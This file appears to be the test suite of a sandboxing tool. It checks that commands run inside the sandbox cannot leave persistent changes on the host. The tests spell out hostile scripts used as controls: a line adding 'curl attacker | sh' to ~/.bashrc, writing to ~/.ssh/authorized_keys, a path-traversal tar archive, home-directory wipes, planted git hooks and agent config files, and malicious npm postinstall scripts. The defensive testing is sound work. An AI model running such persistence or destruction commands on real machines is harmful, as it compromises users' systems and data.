"""Writing where it lasts: the home, the project's hooks and editors, and tricks on the commit."""

import json
import os
import socket
import stat
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import IS_ROOT, require, test  # noqa: E402
from npm_registry import NpmRegistry  # noqa: E402

FACTS = {"stops": "mounts", "event": "none"}

PYTHON = "/usr/bin/python3"


def host_unchanged(t, script, *, what=None, options=()):
    """Runs `script` bare in a copy of the home (control: it changes something), then in the sandbox:
    the home apart from the project stays as it was."""
    before = t.fingerprint(t.home)
    t.bare("sh", "-c", script)
    changed = t.fingerprint(t.home)
    t.true(changed != before, f"control: {what or script}")
    restore(t, before, changed)
    t.equal(t.fingerprint(t.home), before, "restored")
    result = t.sandbox("sh", "-c", script, options=options)
    mine = lambda found: {p: v for p, v in found.items()  # noqa: E731
                          if not p.startswith((".local/state", ".cache", "project")) and p != ".local"}
    t.equal(mine(t.fingerprint(t.home)), mine(before), f"the home after {result}")
    return result


CONTENTS = {}


def restore(t, before, changed):
    from harness import CREDENTIAL_FILES, SECRET

    for path in sorted(changed.keys() - before.keys(), reverse=True):
        full = t.home / path
        full.rmdir() if full.is_dir() and not full.is_symlink() else full.unlink()
    for name, text in CREDENTIAL_FILES.items():
        full = t.home / name
        mode = stat.S_IMODE(before[name][0])
        t.write(full, text.format(secret=SECRET))
        full.chmod(mode)


@test(rows="A060")
def authorized_keys(t):
    """~/.ssh/authorized_keys is not changed"""
    host_unchanged(t, "mkdir -p ~/.ssh; echo attacker >> ~/.ssh/authorized_keys")


@test(rows="A062")
def shell_start_files(t):
    """~/.bashrc, ~/.profile and ~/.zshrc are not changed"""
    host_unchanged(t, "echo 'curl attacker | sh' >> ~/.bashrc; echo x > ~/.profile; echo x > ~/.zshrc")


@test(rows="A063 A064 A065 A066")
def units_and_autostart(t):
    """no systemd unit, autostart entry or startup hook of an interpreter is left in the home"""
    host_unchanged(t, "for d in .config/systemd/user .config/autostart .local/bin .claude "
                   ".config/git .local/lib/python3.11/site-packages; do mkdir -p ~/$d; echo x > ~/$d/evil; done; echo x > ~/.gitconfig")


@test(rows="A071 A072")
def shredded_home(t):
    """removing everything below the home removes nothing of the host's"""
    require(str(t.home).startswith(str(t.base)), "a scratch home")
    before = t.fingerprint(t.home)
    control = t.base / "control-home"
    t.bare("cp", "-a", t.home, control)
    t.bare("sh", "-c", "rm -rf ~/.[a-z]* ~/neighbour", env={"HOME": control})
    t.equal(os.listdir(control), ["project"], "control")
    t.sandbox("sh", "-c", "rm -rf ~/.[a-z]* ~/neighbour ~/project/* 2>/dev/null; exit 0")
    after = t.fingerprint(t.home)
    t.equal({p: v for p, v in before.items() if after.get(p) != v}, {})


@test(rows="A069 A070")
def neighbouring_projects(t):
    """projects beside this one, and directories above it, are not changed"""
    host_unchanged(t, "echo x >> ~/neighbour/.env; mkdir -p ../node_modules/evil; echo x > ../package.json")


PROTECTED = [".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".github/workflows/ci.yml",
             ".envrc", ".husky/pre-commit", ".claude/settings.json", ".mcp.json", "CLAUDE.md",
             ".npmrc", ".gitlab-ci.yml", ".devcontainer/devcontainer.json", ".idea/workspace.xml",
             ".cursor/rules", "AGENTS.md", ".yarnrc.yml",
             # each of the kinds that profiles/protected.toml has
             ".gitpod.yml", ".replit", "devbox.json", "flake.nix", ".tool-versions", "mise.toml", ".cirrus.yml",
             "vercel.json", ".helix/languages.toml", "QWEN.md", ".windsurf/rules/own.md", ".gdbinit",
             "sitecustomize.py", "uv.toml", "pip.conf", "bunfig.toml", ".cargo/config.toml", "nuget.config",
             "lefthook.toml", ".githooks/pre-push", "packages/x/.git/hooks/post-checkout"]


def plant(path, text="planted"):
    return f"mkdir -p $(dirname {path}); echo '{text}' >> {path}; "


def planting(profile, exists):
    def body(t):
        t.succeeded(t.bare("git", "init", "-q"))
        t.write("packages/x/package.json", "{}\n")
        if exists:
            for path in PROTECTED:
                t.write(path, "the owner's\n")
        t.bare("cp", "-a", t.project, t.base / "control")
        script = "".join(map(plant, PROTECTED))
        t.succeeded(t.bare("sh", "-c", script, cwd=t.base / "control"))
        t.contains((t.base / "control/.git/hooks/pre-commit").read_text(), "planted", "control")
        before = t.fingerprint()
        result = t.succeeded(t.sandbox("sh", "-c", script, options=["--profile", profile]))
        t.equal(t.fingerprint(), before, "the project")
        logged = {event["details"]["path"] for event in result.of_type("change.protected")}
        for path in PROTECTED:
            known = any(path == other or path.startswith(other + "/") for other in logged)
            t.true(known, f"{path} in the log, which has {logged}")
        t.true(all(e["severity"] == "alert" for e in result.of_type("change.protected")), "alerts")
        t.contains(result.err, "ALERT", "the summary")

    body.__doc__ = (f"with profile {profile}, hooks, CI, editor and agent files "
                    f"{'that exist' if exists else 'that do not exist yet'} are not changed")
    test(body, rows="A100 A101 A104 A105 A106 A107 A108 A114", stops="commit", event="change.protected")


for one in ("npm", "generic"):
    planting(one, False)
    planting(one, True)


@test(rows="A102", stops="commit", event="change.protected change.held")
def git_replaced(t):
    """.git is not replaced by a file or link that leads elsewhere"""
    t.succeeded(t.bare("git", "init", "-q"))
    before = t.fingerprint()
    for script in ("rm -rf .git; echo 'gitdir: ./evil' > .git; mkdir evil",
                   "mv .git moved; ln -s moved .git", "rm -rf .git"):
        result = t.sandbox("sh", "-c", script, options=["--profile", "npm"])
        t.equal(t.fingerprint(), before, f"after {script}: {result}")
        t.true(result.of_type("change.protected", "change.held"), result.events)


@test(rows="A110", stops="commit", event="change.held")
def unexpected_changes(t):
    """with an install profile, changed sources and package.json are held back"""
    t.write("src/index.js", "original\n")
    t.write("package.json", '{"name": "app"}\n')
    before = t.fingerprint()
    script = "echo evil >> src/index.js; echo '{}' > package.json; echo x > new.js; rm -f src/none"
    result = t.sandbox("sh", "-c", script, options=["--profile", "npm"])
    t.equal(t.fingerprint(), before)
    held = {event["details"]["path"] for event in result.of_type("change.held", "change.protected")}
    t.true({"src/index.js", "new.js"} <= held, f"{held}; {result}")


@test(rows="A060 A061")
def archive_with_dots(t):
    """an archive with ../ entries and linked directories writes nothing outside the project"""
    t.write("make.py", """
import io, tarfile
with tarfile.open('evil.tar', 'w') as archive:
    def add(name, **how):
        info = tarfile.TarInfo(name)
        data = how.pop('data', b'')
        for key, value in how.items(): setattr(info, key, value)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    add('../outside.txt', data=b'x')
    add('../.ssh/authorized_keys', data=b'attacker')
    add('dir', type=tarfile.SYMTYPE, linkname='../.ssh')
    add('dir/planted', data=b'x')
""")
    t.succeeded(t.bare(PYTHON, "make.py"))
    host_unchanged(t, "tar -xPf evil.tar; rm -f dir; true")


@test(rows="A080", stops="commit", event="change.held")
def links_for_the_commit(t):
    """symbolic links that are planted where the commit will write are not followed"""
    t.write("packages/a/file", "old\n")
    t.write(t.home / "victim/file", "the owner's\n")
    script = f"""
        rm -rf packages; ln -s {t.home}/victim packages
        mkdir -p node_modules; ln -s {t.home}/.ssh node_modules/dir
        ln -s {t.home}/.bashrc node_modules/file; ln -s ../.. node_modules/up"""
    before = t.fingerprint(t.home / "victim"), t.fingerprint(t.home / ".ssh")
    result = t.succeeded(t.sandbox("sh", "-c", script, options=["--profile", t.accepting_profile()]))
    t.equal((t.fingerprint(t.home / "victim"), t.fingerprint(t.home / ".ssh")), before, result)
    t.equal((t.project / "packages/a/file").read_text(), "old\n", "the link is held, not committed")
    t.contains(result.said, "held: packages (a link that leads out of the project)")


@test(rows="A082", stops="mounts, commit")
def link_of_the_host_in_the_way(t):
    """a link that stands in the project already is not written through"""
    (t.home / "victim").mkdir()
    (t.project / "node_modules").symlink_to(t.home / "victim")
    script = "mkdir -p node_modules/x && echo x > node_modules/x/y"
    t.succeeded(t.bare("sh", "-c", script))
    t.true((t.home / "victim/x/y").exists(), "control")
    t.bare("rm", "-rf", t.home / "victim/x")
    t.sandbox("sh", "-c", script + "; true", options=["--profile", t.accepting_profile()])
    t.equal(os.listdir(t.home / "victim"), [])


@test(rows="A073")
def hard_links(t):
    """no hard link joins a file of the host with one of the project"""
    t.succeeded(t.bare("ln", t.home / ".bashrc", "linked"), "control")
    (t.project / "linked").unlink()
    for path in (t.home / ".bashrc", "/etc/passwd", "/usr/bin/env"):
        result = t.sandbox("sh", "-c", f"ln {path} linked")
        t.true(result.code != 0, path)
        t.true("Invalid cross-device" in result.err or "No such file" in result.err
               or "not permitted" in result.err, result)


CHANGE_ATTRIBUTES = """
import os, sys
path = sys.argv[1]
for act in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)), lambda: os.setxattr(path, "user.x", b"1")):
    try:
        act()
        print("done")
    except OSError as error:
        print("blocked:", error.strerror)
"""


@test(rows="A074")
def attributes_outside(t):
    """mode, times and extended attributes of what is shown outside the project are not changed"""
    bare, inside = (t.write(t.base / name / "file", "x\n") for name in ("bare", "inside"))
    t.equal(t.bare(PYTHON, "-c", CHANGE_ATTRIBUTES, bare).out.split(), ["done"] * 3, "control")
    before = inside.stat()
    result = t.sandbox(PYTHON, "-c", CHANGE_ATTRIBUTES, inside, options=["--ro", inside.parent])
    t.equal(result.out.splitlines(), ["blocked: Read-only file system"] * 3)
    t.equal((inside.stat().st_mode, inside.stat().st_mtime, os.listxattr(inside)),
            (before.st_mode, before.st_mtime, []))


@test(rows="A079", stops="privilege")
def file_capabilities(t):
    """a file gets no capabilities, by which whoever runs it would have them"""
    give = ("import os, struct; open('tool', 'w').close(); "
            "os.setxattr('tool', 'security.capability', struct.pack('<5I', 0x02000001, 1 << 13, 0, 0, 0)); print('given')")
    control = t.bare(*([] if IS_ROOT else ["unshare", "-Ur"]), PYTHON, "-c", give)
    require(control.out == "given\n", f"it can't be done without a sandbox either: {control.err}")
    (t.project / "tool").unlink()
    result = t.sandbox(PYTHON, "-c", give, options=["--profile", t.accepting_profile()])
    t.contains(result.err, "Operation not permitted")
    t.true(not (t.project / "tool").exists() or os.listxattr(t.project / "tool") == [], result)


@test(rows="A078", stops="commit", event="change.stripped")
def set_user_id_bits(t):
    """set-user-ID and set-group-ID bits are left out of the commit, and logged"""
    script = "cp /bin/true tool; chmod 6755 tool; stat -c %a tool"
    t.contains(t.bare("sh", "-c", script).out, "6755", "control")
    (t.project / "tool").unlink()
    result = t.succeeded(t.sandbox("sh", "-c", script, options=["--profile", t.accepting_profile()]))
    t.equal(oct((t.project / "tool").stat().st_mode & 0o7777), "0o755", result)
    logged(t, result, "tool")


@test
def writable_by_everybody(t):
    """a package's script leaves nothing that each user of the machine may change"""
    registry = NpmRegistry()
    script = "umask 0; echo x > open; mkdir -m 777 d; chmod 777 ."
    registry.add("evil", "1.0.0", {"index.js": ""}, scripts={"postinstall": script})
    t.write("package.json", '{"name": "app", "version": "1.0.0"}')
    env = {"npm_config_registry": registry.url()}

    def open_ones():
        package = t.project / "node_modules/evil"
        return [path.name for path in (package, package / "open", package / "d") if path.stat().st_mode & 0o002]

    t.succeeded(t.bare("npm", "install", "evil", env=env))
    t.equal(open_ones(), ["evil", "open", "d"], "control")
    t.bare("rm", "-rf", "node_modules")
    result = t.succeeded(t.sandbox("npm", "install", "evil", env=env,
                                   options=["--allow-host", f"localhost:{registry.port}"]))
    t.equal(open_ones(), [], result)
    logged(t, result, "node_modules/evil/open")


@test
def what_the_user_opens(t):
    """what the user himself makes writable for everybody stays so"""
    t.succeeded(t.sandbox("sh", "-c", "mkdir -m 1777 tmp; echo x > open; chmod 666 open",
                          options=["--profile", t.accepting_profile()]))
    t.equal([oct((t.project / name).stat().st_mode & 0o7777) for name in ("tmp", "open")], ["0o1777", "0o666"])


def logged(t, result, path):
    found = [e for e in result.of_type("change.stripped") if e["details"]["path"] == path]
    t.true(found, f"change.stripped of {path}: {result.events}")
    t.true("actor" in found[0] or found[0]["details"]["suspects"], found)


@test(rows="A077 A087", stops="privilege, commit", event="change.stripped")
def special_files(t):
    """FIFOs, sockets and device nodes do not get into the project, and do not hang the commit"""
    program = """
import os, socket, stat
os.mkfifo('fifo')
socket.socket(socket.AF_UNIX).bind('sock')
for name, device in (('null', os.makedev(1, 3)), ('whiteout', os.makedev(0, 0))):
    try:
        os.mknod(name, 0o666 | stat.S_IFCHR, device)
        print('made', name)
    except OSError as error:
        print('blocked', name, error.strerror)
open('plain', 'w').close()
"""
    control = t.succeeded(t.bare(PYTHON, "-c", program))
    t.true(IS_ROOT <= ("made null" in control.out), "control")
    for path in t.project.iterdir():
        path.unlink()
    result = t.succeeded(t.sandbox(PYTHON, "-c", program, options=["--profile", t.accepting_profile()]))
    t.lacks(result.out, "made null")
    t.equal(os.listdir(t.project), ["plain"])
    logged(t, result, "fifo")
    logged(t, result, "sock")


@test(rows="A084", stops="commit")
def forged_overlay_marks(t):
    """extended attributes and whiteouts that look like overlayfs' own change nothing outside"""
    t.write("keep/file", "keep\n")
    program = """
import os
os.makedirs('d')
for name, value in (('opaque', b'y'), ('redirect', b'/../../.ssh'), ('origin', b'x')):
    for path in ('d', 'keep'):
        try:
            os.setxattr(path, 'user.overlay.' + name, value)
            print('set', path, name)
        except OSError as error:
            print('blocked', path, name, error.strerror)
"""
    t.contains(t.bare(PYTHON, "-c", program).out, "set keep opaque", "control")
    for path in ("d", "keep"):
        for name in ("opaque", "redirect", "origin"):
            os.removexattr(t.project / path, f"user.overlay.{name}")
    os.rmdir(t.project / "d")
    t.succeeded(t.sandbox(PYTHON, "-c", program, options=["--profile", t.accepting_profile()]))
    t.equal((t.project / "keep/file").read_text(), "keep\n")
    for path in ("d", "keep"):
        t.equal([x for x in os.listxattr(t.project / path) if "overlay" in x], [], path)


@test(rows="A086")
def own_configuration(t):
    """configuration of sandbox-run, in the home and in the project, cannot be changed"""
    t.write(t.home / ".config/sandbox-run/config.toml", "allow_hosts = []\n")
    script = ("mkdir -p ~/.config/sandbox-run; echo 'allow_hosts = [\"evil.example.com\"]' > "
              "~/.config/sandbox-run/config.toml; echo x > .sandbox-run.toml")
    result = t.sandbox("sh", "-c", script)
    t.equal((t.home / ".config/sandbox-run/config.toml").read_text(), "allow_hosts = []\n")
    t.true(not (t.project / ".sandbox-run.toml").exists(), result)


@test(rows="A086")
def state_directory(t):
    """the state directory (logs, held changes) cannot be seen or changed from inside"""
    t.succeeded(t.sandbox("sh", "-c", "echo x > .envrc"))
    state = t.home / ".local/state/sandbox-run"
    t.true(state.exists() and os.listdir(state), "control: it is there")
    t.equal(stat.S_IMODE(state.stat().st_mode) & 0o077, 0, "others cannot read it")
    result = t.sandbox("sh", "-c", f"ls -A {state}; mount | grep -c sandbox-run/ || true")
    t.contains(result.err, "No such file")


@test(rows="A083", stops="refusal")
def fake_helpers_in_the_project(t):
    """programs in node_modules/.bin are not run by sandbox-run itself at the next start"""
    marker = t.base / "helper-ran"
    for name in ("npm", "sh", "git", "unshare", "newuidmap", "mount", "python3", "node"):
        t.write(f"node_modules/.bin/{name}", f"#!/bin/sh\ntouch {marker}\n", mode=0o755)
    path = f"{t.project}/node_modules/.bin:{os.environ['PATH']}"
    t.bare("git", "--version", env={"PATH": path})
    t.true(marker.exists(), "control")
    marker.unlink()
    t.sandbox("/bin/true", env={"PATH": path}, options=["--profile", "npm"])
    t.true(not marker.exists(), "a helper ran outside the sandbox")


@test(rows="A087 A089", stops="commit")
def odd_trees(t):
    """a deep tree, a sparse file, unreadable directories and a million-entry name do not stop the commit"""
    script = """
        d=.; for i in $(seq 200); do d=$d/d$i; done; mkdir -p $d; echo x > $d/deep
        truncate -s 30G sparse; mkdir closed; echo x > closed/file; chmod 000 closed
        """
    options = ["--profile", t.accepting_profile()]
    t.succeeded(t.sandbox("sh", "-c", script, options=options))
    t.equal(os.stat(t.project / "sparse").st_size, 30 << 30)
    t.true(os.stat(t.project / "sparse").st_blocks < 1000, "sparse still")
    t.equal(stat.S_IMODE((t.project / "closed").stat().st_mode), 0)
    (t.project / "closed").chmod(0o700)


@test(rows="A198", stops="log", event="change.protected")
def escape_sequences(t):
    """names with escape sequences and newlines forge nothing on the terminal or in the log"""
    program = ("import os\nos.makedirs(b'.vscode')\n"
               "open(b'.vscode/\\x1b[2Jx\\nsandbox-run: clean', 'w').close()")
    result = t.succeeded(t.sandbox(PYTHON, "-c", program))
    t.lacks(result.err, "\x1b")
    t.true(not any(line.startswith("sandbox-run: clean") for line in result.err.splitlines()), result)
    t.lacks(json.dumps(result.events, ensure_ascii=False), "\x1b")


# A version, then owner, group and others with all rights: acl(5).
EVERYBODY = struct.pack("<I", 2) + b"".join(
    struct.pack("<HHI", who, 7, 0xFFFFFFFF) for who in (0x01, 0x04, 0x20))


@test
def open_from_now_on(t):
    """a default access list by which everybody may write what is made in a directory later is left out; the user's stays"""
    program = (f"import os\nos.mkdir('made')\nos.setxattr('made', 'system.posix_acl_default', "
               f"bytes.fromhex('{EVERYBODY.hex()}'))\n")
    registry = NpmRegistry()
    registry.add("evil", "1.0.0", {"attack.py": program}, scripts={"postinstall": f"{PYTHON} attack.py"})
    t.write("package.json", '{"name": "app", "version": "1.0.0"}')
    env = {"npm_config_registry": registry.url()}

    def later(place):
        old = os.umask(0o022)
        (t.project / place / "later").write_text("")
        os.umask(old)
        return oct((t.project / place / "later").stat().st_mode & 0o7777)

    bare = t.bare(PYTHON, "-c", program)
    require(bare.code == 0, f"no access lists here: {bare.err}")
    t.succeeded(t.bare("npm", "install", "evil", env=env))
    t.equal(later("node_modules/evil/made"), "0o666", "control")
    t.bare("rm", "-rf", "node_modules", "made")
    result = t.succeeded(t.sandbox("npm", "install", "evil", env=env,
                                   options=["--allow-host", f"localhost:{registry.port}"]))
    t.equal(later("node_modules/evil/made"), "0o644", result)
    t.contains(result.err, "left out", result)
    t.succeeded(t.sandbox(PYTHON, "-c", program, options=["--profile", t.accepting_profile()]))
    t.equal(later("made"), "0o666", "what the user himself asks for")


MANY_NAMES = """
const fs = require('fs');
fs.writeFileSync('large', Buffer.alloc(8 << 20, 1));
for (let i = 0; i < 50; ++i) fs.linkSync('large', 'name' + i);
fs.linkSync('large', process.env.INIT_CWD + '/held');
"""


@test(stops="commit", event="change.stripped")
def a_large_file_under_many_names(t):
    """a large file under many names, one of which is held, is parted from that one, and not copied for each name"""
    registry = NpmRegistry()
    registry.add("evil", "1.0.0", {"attack.js": MANY_NAMES}, scripts={"postinstall": "node attack.js"})
    t.write("package.json", '{"name": "app", "version": "1.0.0"}')
    env = {"npm_config_registry": registry.url()}
    files = lambda: {path.stat().st_ino for path in (t.project / "node_modules/evil").glob("name*")}  # noqa: E731
    t.succeeded(t.bare("npm", "install", "evil", env=env))
    t.equal(files(), {(t.project / "held").stat().st_ino}, "control")
    t.bare("rm", "-rf", "node_modules", "held", "package-lock.json")
    result = t.succeeded(t.sandbox("npm", "install", "evil", env=env,
                                   options=["--allow-host", f"localhost:{registry.port}"]))
    t.equal(len(files()), 1, result)
    t.succeeded(t.cli("commit", "held"))
    t.true((t.project / "held").stat().st_ino not in files(), result)
